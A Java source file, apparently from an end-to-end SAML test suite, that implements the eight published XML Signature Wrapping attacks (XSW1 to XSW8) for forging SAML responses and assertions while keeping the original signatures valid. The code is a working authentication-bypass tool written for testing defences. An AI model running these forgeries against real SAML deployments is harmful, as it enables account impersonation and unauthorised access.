package kr.fedhub.e2e.saml;

import java.util.function.Consumer;
import java.util.function.UnaryOperator;
import org.w3c.dom.Document;
import org.w3c.dom.Element;

/**
 * The eight classic ways to move a signed part aside and put a forged one where the reader looks (Somorovsky et al., On
 * Breaking SAML: Be Whoever You Want to Be, USENIX Security 2012). The first two take a signed response, the others a
 * response whose assertion is signed; in each the old signature stays valid over what was signed.
 */
public enum SignatureWrapping {
    /** The signed response goes inside its own signature, which stays in the forged response. */
    XSW1(true) {
        @Override
        void wrap(Element response, Consumer<Element> forgery) {
            Element original = withoutSignature(response);
            signature(response).appendChild(original);
            forgeRoot(response, forgery);
        }
    },
    /** The signed response goes before the signature in the forged response. */
    XSW2(true) {
        @Override
        void wrap(Element response, Consumer<Element> forgery) {
            Element original = withoutSignature(response);
            response.insertBefore(original, signature(response));
            forgeRoot(response, forgery);
        }
    },
    /** The forged assertion stands before the signed one. */
    XSW3(false) {
        @Override
        void wrap(Element response, Consumer<Element> forgery) {
            Element original = assertion(response);
            response.insertBefore(forged(withoutSignature(original), forgery), original);
        }
    },
    /** The signed assertion goes inside the forged one. */
    XSW4(false) {
        @Override
        void wrap(Element response, Consumer<Element> forgery) {
            Element original = assertion(response);
            Element evil = forged(withoutSignature(original), forgery);
            response.replaceChild(evil, original);
            evil.appendChild(original);
        }
    },
    /** The forged assertion keeps the signature, the signed one follows without it. */
    XSW5(false) {
        @Override
        void wrap(Element response, Consumer<Element> forgery) {
            Element evil = assertion(response);
            Element original = withoutSignature(evil);
            forged(evil, forgery);
            response.appendChild(original);
        }
    },
    /** The forged assertion keeps the signature, with the signed assertion inside it. */
    XSW6(false) {
        @Override
        void wrap(Element response, Consumer<Element> forgery) {
            Element evil = assertion(response);
            Element original = withoutSignature(evil);
            forged(evil, forgery);
            signature(evil).appendChild(original);
        }
    },
    /** The forged assertion, with the ID of the signed one, stands in extensions before it, where anything may be. */
    XSW7(false) {
        @Override
        void wrap(Element response, Consumer<Element> forgery) {
            Element original = assertion(response);
            Element extensions = response.getOwnerDocument().createElementNS(PROTOCOL, "samlp:Extensions");
            Element evil = withoutSignature(original);
            forgery.accept(evil);
            extensions.appendChild(evil);
            response.insertBefore(extensions, original);
        }
    },
    /** The forged assertion keeps the signature, with the signed one in an object of the signature. */
    XSW8(false) {
        @Override
        void wrap(Element response, Consumer<Element> forgery) {
            Element evil = assertion(response);
            Element original = withoutSignature(evil);
            Element object = response.getOwnerDocument().createElementNS(DSIG, "ds:Object");
            object.appendChild(original);
            forged(evil, forgery);
            signature(evil).appendChild(object);
        }
    };

    private static final String PROTOCOL = "urn:oasis:names:tc:SAML:2.0:protocol";
    private static final String DSIG = "http://www.w3.org/2000/09/xmldsig#";

    private final boolean ofResponse;

    SignatureWrapping(boolean ofResponse) {
        this.ofResponse = ofResponse;
    }

    abstract void wrap(Element response, Consumer<Element> forgery);

    /** The part whose signature it abuses. */
    public AnswerPart part() {
        return ofResponse ? AnswerPart.RESPONSE : AnswerPart.ASSERTION;
    }

    /** The attack on a freshly signed response; the forgery changes the copy that the attacker wants to be believed. */
    public UnaryOperator<Document> with(Consumer<Element> forgery) {
        return document -> {
            wrap(document.getDocumentElement(), forgery);
            return document;
        };
    }

    static Element withoutSignature(Element signed) {
        Element copy = (Element) signed.cloneNode(true);
        copy.removeChild(signature(copy));
        return copy;
    }

    static Element forged(Element assertion, Consumer<Element> forgery) {
        assertion.setAttribute("ID", "_evil-assertion");
        forgery.accept(assertion);
        return assertion;
    }

    /** The root becomes the forged one; its copy below, which is what was signed, stays as it is. */
    static void forgeRoot(Element response, Consumer<Element> forgery) {
        response.setAttribute("ID", "_evil-response");
        forgery.accept(assertion(response));
    }

    static Element assertion(Element response) {
        return Xml.child(response, "Assertion").orElseThrow();
    }

    static Element signature(Element signed) {
        return Xml.child(signed, "Signature").orElseThrow();
    }
}
